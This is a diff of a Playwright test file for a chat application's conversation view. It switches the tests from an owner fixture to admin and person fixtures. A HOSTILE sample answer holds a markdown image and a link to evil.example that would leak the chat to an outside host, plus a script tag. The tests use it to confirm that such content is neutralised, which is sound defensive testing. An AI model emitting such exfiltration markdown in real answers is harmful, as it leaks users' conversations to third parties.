@@ -1,5 +1,6 @@
 import type { Page } from "@playwright/test";
-import { OWNER, type Site } from "../site/site.ts";
+import type { Person } from "../site/people.ts";
+import type { Site } from "../site/site.ts";
 import { expect, say, test } from "../site/test.ts";
 
 const HOSTILE = `An image ![The bag](https://pictures.example/p.png?leak=everything), a [guide](https://evil.example/collect?q=everything+that+was+said) and <script>document.title = "run"</script>.
@@ -14,12 +15,11 @@ const days = 19;
 
 Prices of $5 and $10, and $a^2$.`;
 
-/** A chat of the owner with that many messages, the last one saying `last`. */
-async function aChat(site: Site, count: number, last = "The last answer."): Promise<number> {
+/** A chat of somebody with that many messages, the last one saying `last`. */
+async function aChat(site: Site, { userId }: Person, count: number, last = "The last answer."): Promise<number> {
   const [made] = await site.sql(
-    `insert into conversations (user_id, name, is_name_given)
-     select user_id, 'A chat to read', true from users where email = $1 returning conversation_id, user_id`,
-    [OWNER.email],
+    "insert into conversations (user_id, name, is_name_given) values ($1, 'A chat to read', true) returning conversation_id",
+    [userId],
   );
   await site.sql(
     `insert into messages (conversation_id, user_id, role, content, finish_reason, words)
@@ -27,15 +27,19 @@ async function aChat(site: Site, count: number, last = "The last answer."): Prom
        case when n = $3::int then $4 else 'Message number ' || n || '. ' || repeat('Words of it. ', 5 + n % 40) end,
        case when n % 2 = 0 then 'stop' end, case when n % 2 = 0 then 20 end
      from generate_series(1, $3::int) n order by n`,
-    [made?.conversation_id, made?.user_id, count, last],
+    [made?.conversation_id, userId, count, last],
   );
   return Number(made?.conversation_id);
 }
 
 const thread = (page: Page) => page.getByRole("region", { name: "Messages" });
 
-test("a long chat is read to its beginning, and only what is in sight is drawn", async ({ owner: page, site }) => {
-  await page.goto(`/conversations/${await aChat(site, 64)}`);
+test("a long chat is read to its beginning, and only what is in sight is drawn", async ({
+  admin: page,
+  person,
+  site,
+}) => {
+  await page.goto(`/conversations/${await aChat(site, person, 64)}`);
   await expect(page.getByText("The last answer.")).toBeInViewport();
   const drawn = thread(page).getByRole("article");
   await thread(page).hover();
@@ -49,7 +53,7 @@ test("a long chat is read to its beginning, and only what is in sight is drawn",
   await expect(page.getByText("The last answer.")).toBeInViewport();
 });
 
-test("an answer is written again, and its versions can be gone through", async ({ owner: page }) => {
+test("an answer is written again, and its versions can be gone through", async ({ admin: page }) => {
   await page.goto("/conversations/new");
   await say(page, "words=6 Twice");
   await expect(page.getByText("6 words", { exact: true })).toBeVisible();
@@ -61,7 +65,7 @@ test("an answer is written again, and its versions can be gone through", async (
   await expect(page.getByRole("group", { name: "Version 1 of 2" })).toBeVisible();
 });
 
-test("a question is edited in its place and asked again; Esc gives that up", async ({ owner: page }) => {
+test("a question is edited in its place and asked again; Esc gives that up", async ({ admin: page }) => {
   await page.goto("/conversations/new");
   await say(page, "words=4 The first wording");
   await expect(page.getByText("4 words", { exact: true })).toBeVisible();
@@ -79,12 +83,13 @@ test("a question is edited in its place and asked again; Esc gives that up", asy
 });
 
 test("an answer cannot carry the chat away: no image is fetched, and a link shows where it leads", async ({
-  owner: page,
+  admin: page,
+  person,
   site,
 }) => {
   const asked: string[] = [];
   page.on("request", (request) => asked.push(request.url()));
-  await page.goto(`/conversations/${await aChat(site, 2, HOSTILE)}`);
+  await page.goto(`/conversations/${await aChat(site, person, 2, HOSTILE)}`);
   await expect(page.getByText("Picture from pictures.example, not loaded")).toBeVisible();
   await expect(page.getByRole("table")).toBeVisible();
   await page.getByRole("link", { name: "guide" }).click();
@@ -97,12 +102,13 @@ test("an answer cannot carry the chat away: no image is fetched, and a link show
 });
 
 test("an answer is copied formatted, and plain without the marks of Markdown", async ({
-  owner: page,
+  admin: page,
   context,
+  person,
   site,
 }) => {
   await context.grantPermissions(["clipboard-read", "clipboard-write"]);
-  await page.goto(`/conversations/${await aChat(site, 2, HOSTILE)}`);
+  await page.goto(`/conversations/${await aChat(site, person, 2, HOSTILE)}`);
   await expect(page.getByRole("table")).toBeVisible();
   await thread(page).getByRole("article").last().getByRole("button", { name: "Copy" }).last().click();
   await expect(page.getByRole("button", { name: "Copied" })).toBeVisible();
